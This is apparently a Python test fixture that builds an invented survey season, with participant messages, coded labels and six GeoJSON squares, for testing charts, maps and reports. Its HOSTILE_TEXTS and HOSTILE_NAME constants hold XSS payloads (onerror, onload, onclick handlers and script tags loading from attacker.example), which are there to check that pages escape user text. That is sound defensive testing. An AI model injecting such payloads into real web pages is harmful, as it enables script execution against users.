"""An invented season for charts, maps and the report: people write what a page must not run, and places are six squares."""

import json
from pathlib import Path

from engagement.analysis.tables.season import Season, load_season
from engagement.configuration import load_project
from example_project import DataRoot, coda_message, episode_run, label, survey_run, write_project

ATTACKER = "attacker.example"
HOSTILE_TEXTS = (
    f'<img src="http://{ATTACKER}/a" onerror="document.title=\'owned\'">',
    f"</script><script src='http://{ATTACKER}/b'></script><script>document.title='owned'</script>",
    f'"><svg onload="document.title=\'owned\'"><style>@import "http://{ATTACKER}/c";</style>',
    "<!-- <h1>biyo",
    "\u202etxet dnuorra denrut\u0000 &amp;lt;",
)
HOSTILE_NAME = "water $x^2$ <b onclick=alert(1)>& \u1218\u1320\u1325"
TEXT_WITH_NUMBER = "i soo wac 0615550123"
REGIONS = ("banadir", "bay", "lower_shabelle")
# Six squares, the last three without a code.
SQUARES = ("Banadir", "Bay", "Lower Shabelle", "elsewhere 1", "elsewhere 2", "elsewhere 3")


def write_squares(path: Path, names: tuple[str, ...] = SQUARES, side: float = 1.0) -> Path:
    """GeoJSON with one square a name, from west to east in two rows."""
    features = []
    for number, name in enumerate(names):
        x, y = number % 3 * side, -(number // 3) * side
        ring = [[x, y], [x + side, y], [x + side, y + side], [x, y + side], [x, y]]
        geometry = {"type": "Polygon", "coordinates": [ring]}
        features.append({"type": "Feature", "properties": {"nr": number, "name": name}, "geometry": geometry})
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    return path


def make_season(folder: Path, maps: list[dict] | None = None) -> Season:
    """Fourteen participants: six write of water (what a page must not run, and a number), six of roads, two of school.

    Nine are men; four live in banadir, one in bay.
    """

    def change(configuration: dict) -> None:
        configuration["AutomatedAnalysis"] = {"Maps": maps or [], "SampleMessages": {"LimitPerCode": 20}}

    def rename(schemes: dict) -> None:
        schemes["episode1"]["Codes"][0]["DisplayText"] = HOSTILE_NAME
        schemes["district"]["Codes"][1]["DisplayText"] = "</script>"

    path = write_project(folder / "configuration", change_configuration=change, change_schemes=rename)
    write_squares(folder / "configuration" / "squares.geojson")
    root = DataRoot(folder, path)
    texts = [*HOSTILE_TEXTS, TEXT_WITH_NUMBER, *(f"biyo {number}" for number in range(6)), "dugsi", "iskuul"]
    lines = [episode_run(f"p{n}", text, 1, "2026-04-05T12:00:00+03:00", n) for n, text in enumerate(texts)]
    lines += [survey_run(f"p{n}", 100 + n, gender="nin" if n < 9 else "naag") for n in range(len(texts))]
    lines += [
        survey_run(f"p{n}", 200 + n, location=place, time="2026-04-03T10:00:00+03:00")
        for n, place in enumerate(["xamar"] * 4 + ["baidoa"])
    ]
    root.write_runs(*lines)
    root.write_coded(
        "s01e01",
        *(
            coda_message(text, label("episode1", "water" if n < 6 else "roads" if n < 12 else "school"))
            for n, text in enumerate(texts)
        ),
    )
    root.write_coded("gender", *(coda_message(t, label("gender", c)) for t, c in (("nin", "man"), ("naag", "woman"))))
    root.write_coded(
        "location",
        coda_message("xamar", label("district", "mogadishu")),
        coda_message("baidoa", label("district", "baidoa")),
    )
    root.generate()
    return load_season(load_project(root.configuration), root.path)


def region_map(**more: object) -> dict:
    """The configuration of a map of the six squares."""
    return {"Level": "region", "CodedField": "region_coded", "Boundaries": "squares.geojson", **more}
